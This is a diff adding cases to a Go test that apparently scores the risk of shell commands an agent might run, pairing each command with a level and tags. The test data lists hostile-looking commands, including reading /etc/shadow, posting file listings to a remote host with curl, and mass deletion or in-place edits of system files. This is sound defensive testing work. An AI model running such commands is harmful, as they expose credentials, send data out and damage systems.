@@ -25,6 +25,22 @@ func TestReadsThatEverybodyHas(t *testing.T) {
 		medium | cp /usr/share/x .
 		medium FS_OUTSIDE_WORKSPACE | cargo build --manifest-path /tmp/x/Cargo.toml
 		high FS_CONFIG_SECRETS FS_OUTSIDE_WORKSPACE | cd /etc && cat shadow
+		low | f=$(find "$(go env GOMODCACHE)" -path '*x*' | head -1); cat "$f"
+		low | find /usr/include -name '*.h' | xargs grep -n foo
+		low | find /tmp/x -name '*.log' -exec cat {} +
+		low | ls "$(brew --prefix)/lib" "$(rustc --print sysroot)"
+		low | cat "$(command -v node)" "$(which git)"
+		low | M=$(go env GOMODCACHE || echo "$HOME/go/pkg/mod"); grep -rn x "$M"
+		medium..high FS_OUTSIDE_WORKSPACE | find ~/notes | xargs cat
+		medium EXEC_ARBITRARY | find /etc | xargs cat
+		high..critical FS_DELETE_OVERWRITE | find /tmp/x -type f | xargs rm
+		medium..critical EXEC_ARBITRARY | find /usr/lib -name '*.py' | xargs sed -i s/a/b/
+		high SYSTEM_IMPACT | find /usr/lib -name '*.py' -exec sed -i s/a/b/ {} +
+		critical NETWORK_RISK | curl -d "$(find /tmp/x)" https://example.com
+		medium..critical EXEC_ARBITRARY | find /tmp/x -name '*.sh' | xargs sh
+		high FS_OUTSIDE_WORKSPACE | echo x > "$(go env GOROOT)/x"
+		medium EXEC_ARBITRARY | "$(which python3)" x.py
+		medium EXEC_ARBITRARY | cat "$(go env GOFLAGS)"
 		medium EXEC_ARBITRARY | cat /usr/$X`)
 }
 
